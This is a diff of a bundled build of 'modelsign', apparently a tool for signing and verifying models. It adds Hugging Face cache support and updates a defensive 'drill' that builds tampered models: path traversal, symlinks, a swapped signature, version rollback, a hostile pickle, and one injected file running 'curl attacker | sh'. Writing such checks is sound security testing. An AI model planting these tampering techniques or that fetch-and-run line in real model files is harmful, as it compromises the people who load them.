+  await mkdir3(path22.join(dir, "tokenizer"), { recursive: true });
+  await writeFile3(path22.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path22.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path22.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path22.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path22.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60743,15 +61203,15 @@ import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path21 from "node:path";
+import path23 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path23.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path23.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60764,7 +61224,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path21.join(dir, ".fifo-probe");
+  const probe = path23.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -60774,7 +61234,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path21.join(ctx.tmp, name2);
+  const dir = path23.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -60798,7 +61258,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path21.join(m2, SHARD_1);
+          const f2 = path23.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -60812,7 +61272,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path23.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60822,7 +61282,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path21.join(m2, SHARD_2));
+          await rm2(path23.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60832,9 +61292,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
-          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
-          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
+          await rename3(path23.join(m2, SHARD_1), path23.join(m2, "tmp"));
+          await rename3(path23.join(m2, SHARD_2), path23.join(m2, SHARD_1));
+          await rename3(path23.join(m2, "tmp"), path23.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60843,10 +61303,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path23.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
+          await copyFile(path23.join(other, "model.sig"), path23.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -60855,7 +61315,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "untrusted-key");
+          const m2 = path23.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -60867,7 +61327,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "missing-signature");
+          const m2 = path23.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -60879,13 +61339,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile4(path21.join(m2, SHARD_1), evil);
+          await writeFile4(path23.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path23.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60895,7 +61355,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path23.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -60909,7 +61369,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret.bin");
+          const outside = path23.join(ctx.tmp, "secret.bin");
           await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -60919,7 +61379,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret-abs.bin");
+          const outside = path23.join(ctx.tmp, "secret-abs.bin");
           await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -60930,10 +61390,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path21.join(ctx.tmp, "config-copy.json");
-          await copyFile(path21.join(m2, "config.json"), outside);
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(outside, path21.join(m2, "config.json"));
+          const outside = path23.join(ctx.tmp, "config-copy.json");
+          await copyFile(path23.join(m2, "config.json"), outside);
+          await rm2(path23.join(m2, "config.json"));
+          await symlink(outside, path23.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60943,10 +61403,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path21.join(m2, ".git"));
-          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
+          await mkdir4(path23.join(m2, ".git"));
+          await copyFile(path23.join(m2, "config.json"), path23.join(m2, ".git", "config.json"));
+          await rm2(path23.join(m2, "config.json"));
+          await symlink(path23.join(".git", "config.json"), path23.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60956,7 +61416,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path23.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -60966,7 +61426,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path23.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -60975,9 +61435,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path23.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path21.join(ctx.tmp, "rollback-newer");
+          const newer = path23.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -60992,12 +61452,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path23.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path21.join(ctx.tmp, "revoked-store");
+          const storeDir = path23.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path23.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -61011,7 +61471,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path21.join(ctx.tmp, "license-outside-policy");
+          const m2 = path23.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -61023,9 +61483,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "hostile-pickle");
+          const m2 = path23.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path23.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -61036,14 +61496,14 @@ var init_attacks = __esm({
 
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
-import os6 from "node:os";
-import path22 from "node:path";
+import os7 from "node:os";
+import path24 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path24.join(os7.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path22.join(tmp, "base-model");
+    const base2 = path24.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path22.join(tmp, "lineage-store");
+    const store = path24.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -61067,7 +61527,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path22.join(tmp, name2);
+        const dest = path24.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -61133,7 +61593,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path23 from "node:path";
+import path25 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -61162,7 +61622,7 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path25.relative(path25.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
@@ -63059,6 +63519,7 @@ __export(index_exports, {
   loadPublicKey: () => loadPublicKey,
   loadTrustedRoot: () => loadTrustedRoot,
   normalizeLicense: () => normalizeLicense,
+  openSource: () => openSource,
   openStore: () => openStore,
   pae: () => pae,
   parseBundle: () => parseBundle,
@@ -63113,6 +63574,7 @@ var init_index = __esm({
     init_dsse();
     init_serialize();
     init_walk();
+    init_source3();
     init_version();
     init_sign();
     init_trust_key();
@@ -63164,6 +63626,31 @@ var init_common = __esm({
     "use strict";
     init_esm();
     init_io();
+  }
+});
+
+// src/cli/hf.ts
+import os8 from "node:os";
+import path26 from "node:path";
+function expandHome(p2) {
+  return p2 === "~" || p2.startsWith("~/") ? path26.join(os8.homedir(), p2.slice(1)) : p2;
+}
+function hubCacheDir(env = process.env) {
+  const set = (k2) => env[k2] ? expandHome(env[k2]) : void 0;
+  const hub = set("HF_HUB_CACHE") ?? set("HUGGINGFACE_HUB_CACHE");
+  if (hub) return hub;
+  const home = set("HF_HOME") ?? path26.join(set("XDG_CACHE_HOME") ?? path26.join(os8.homedir(), ".cache"), "huggingface");
+  return path26.join(home, "hub");
+}
+async function modelSource(model) {
+  if (!model.startsWith(HF_SCHEME)) return {};
+  const { openSource: openSource2 } = await Promise.resolve().then(() => (init_source3(), source_exports));
+  return { source: await openSource2(model, { hfCache: hubCacheDir() }) };
+}
+var init_hf = __esm({
+  "src/cli/hf.ts"() {
+    "use strict";
+    init_hf_layout();
   }
 });
 
@@ -63270,7 +63757,7 @@ var init_progress = __esm({
 function addLineageSignOptions(cmd) {
   cmd.option("--parent <sig>", "parent model's signature; verified, then linked (repeatable for merges)", collect, []).option("--relation <rel>", "finetune | quantized | merge | adapter | distill (one for all parents, or one per --parent; default finetune, merge for several)", collect, []).option("--dataset <uri[=sha256:digest]>", "training data used (repeatable)", collect, []).option("--parent-key <pub>", "public key trusted for --parent signatures (repeatable; default: the signing key's own public key)", collect, []).option("--record [dir]", `also file the new bundle (and its parents') in a lineage store (default: ./${DEFAULT_STORE})`);
 }
-async function prepareLineage(model, o) {
+async function prepareLineage(model, o, source) {
   const parents = o.parent ?? [];
   const datasetsRaw = o.dataset ?? [];
   const storeDir = o.record === void 0 || o.record === false ? void 0 : o.record === true ? DEFAULT_STORE : o.record;
@@ -63300,7 +63787,7 @@ async function prepareLineage(model, o) {
     loaded2 = await loadParents2(parents, trust);
   }
   const { defaultModelName: defaultModelName2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
-  const childName = o.name ?? await defaultModelName2(model);
+  const childName = o.name ?? source?.defaultName() ?? await defaultModelName2(model);
   const meta = buildLineageMeta2({ parents: loaded2, relations, datasets, childName, childVersion: o.version ?? "" });
   const childMeta = (r) => {
     const m2 = r.statement.subject[0].annotations?.modelsign;
@@ -63343,7 +63830,7 @@ var sign_keyless_exports = {};
 __export(sign_keyless_exports, {
   signKeyless: () => signKeyless
 });
-async function signKeyless(model, o, lineage) {
+async function signKeyless(model, o, lineage, source = {}) {
   if (o.key) throw usage("BAD_OPTION", "--keyless and --key exclude each other");
   if (!o.version) throw usage("MISSING_OPTION", "sign needs --version SEMVER (e.g. --version 1.0.0)");
   const { keylessSigner: keylessSigner2, bundleIdentity: bundleIdentity2, keylessEndpoints: keylessEndpoints2 } = await Promise.resolve().then(() => (init_keyless(), keyless_exports));
@@ -63361,6 +63848,7 @@ async function signKeyless(model, o, lineage) {
   let identity;
   const r = await signModel2({
     model,
+    ...source,
     version: o.version,
     ...lineage?.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
     ...lineage?.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
@@ -63398,7 +63886,7 @@ __export(sign_exports2, {
   register: () => register
 });
 function register(program2) {
-  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file or .tar/.tar.gz/.tgz archive").option("--key <file>", "private key (modelsign/cosign encrypted PEM, or plain PKCS#8/SEC1 PEM)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, or MODEL.sig for a file)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "keyless: RFC 3161 timestamp authority to also timestamp the signature").option("--staging", "keyless: use the Sigstore staging instance");
+  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file, .tar/.tar.gz/.tgz archive, or hf://org/name[@revision] in the Hugging Face cache").option("--key <file>", "private key (modelsign/cosign encrypted PEM, or plain PKCS#8/SEC1 PEM)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, or MODEL.sig for a file)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "keyless: RFC 3161 timestamp authority to also timestamp the signature").option("--staging", "keyless: use the Sigstore staging instance");
   addIgnoreOption(cmd);
   addSerializationOptions(cmd);
   addEngineOptions(cmd);
@@ -63431,15 +63919,17 @@ tiny --shard-size). On exit 2 nothing was written.`
         const problem = licenseProblem2(o.license);
         if (problem) warn(problem);
       }
-      const lineage = await prepareLineage(model, o);
+      const source = await modelSource(model);
+      const lineage = await prepareLineage(model, o, source.source);
       if (o.keyless) {
         const { signKeyless: signKeyless2 } = await Promise.resolve().then(() => (init_sign_keyless(), sign_keyless_exports));
-        return signKeyless2(model, o, lineage);
+        return signKeyless2(model, o, lineage, source);
       }
       const { signWithKey: sign2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
       const engine = engineFlags(o, "hashing");
       const r = await sign2({
         model,
+        ...source,
         key: lineage.key ?? o.key,
         ...lineage.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
         ...lineage.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
@@ -63459,6 +63949,7 @@ var init_sign2 = __esm({
     "use strict";
     init_errors();
     init_common();
+    init_hf();
     init_io();
     init_report();
     init_progress();
@@ -63472,8 +63963,8 @@ init_errors();
 init_io();
 init_report();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
-import os7 from "node:os";
-import path24 from "node:path";
+import os9 from "node:os";
+import path27 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -63790,28 +64281,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path18 from "node:path";
+import path20 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path18.resolve(model),
-    signature: str2(flags.signature) ? path18.resolve(flags.signature) : null,
+    model: path20.resolve(model),
+    signature: str2(flags.signature) ? path20.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path18.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path20.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path18.resolve(r.signature),
+    signature: path20.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -64014,9 +64505,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path27.join(process.env.RUNNER_TEMP || os9.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path27.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
